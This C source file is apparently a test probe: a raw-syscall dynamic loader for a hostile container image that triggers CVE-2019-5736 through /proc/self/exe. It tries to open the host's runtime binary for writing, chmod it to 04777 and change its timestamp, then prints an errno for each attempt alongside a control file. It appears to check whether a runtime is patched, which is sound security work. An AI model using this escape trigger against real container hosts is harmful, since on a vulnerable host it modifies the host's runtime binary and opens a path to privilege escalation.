/* The dynamic loader of a hostile image. Its /bin/sh is "#!/proc/self/exe": whoever
 * executes that runs the program that started the box, with this as its loader, and
 * then /proc/self/exe leads to a file of the host's (CVE-2019-5736).
 *
 * Prints "WHAT ERRNO" lines, for that file and for one of our own as the control. There
 * is no libc here: the process is somebody else's. */
#include <fcntl.h>
#include <sys/syscall.h>

#define EXE     "/proc/self/exe"
#define CONTROL "/workspace/control"

static long call(long nr, const void *a, long b, long c, long d)
{
	long r = nr;
#ifdef __x86_64__
	register long r10 __asm__("r10") = d;

	__asm__ volatile("syscall"
			 : "+a"(r)
			 : "D"(a), "S"(b), "d"(c), "r"(r10)
			 : "rcx", "r11", "memory");
#else
	(void)a, (void)b, (void)c, (void)d;
#endif
	return r;
}

static void say(const char *what, long r)
{
	char line[64];
	long n = 0;
	long code = r < 0 ? -r : 0;

	while (what[n])
		line[n] = what[n], n++;
	line[n++] = ' ';
	line[n++] = (char)('0' + code / 100 % 10);
	line[n++] = (char)('0' + code / 10 % 10);
	line[n++] = (char)('0' + code % 10);
	line[n++] = '\n';
	(void)call(SYS_write, (const void *)1, (long)line, n, 0);
}

static void change(const char *path, const char *const *names)
{
	say(names[0], call(SYS_open, path, O_WRONLY, 0, 0));
	say(names[1], call(SYS_chmod, path, 04777, 0, 0));
	say(names[2], call(SYS_utime, path, 0, 0, 0));
}

__attribute__((noreturn)) void _start(void)
{
	const char *exe[] = { "exe_write", "exe_chmod", "exe_utime" };
	const char *own[] = { "own_write", "own_chmod", "own_utime" };

	say("made", call(SYS_open, CONTROL, O_CREAT | O_WRONLY, 0644, 0) < 0 ? -1 : 0);
	change(EXE, exe);
	change(CONTROL, own);
	(void)call(SYS_exit_group, 0, 0, 0, 0);
	__builtin_unreachable();
}
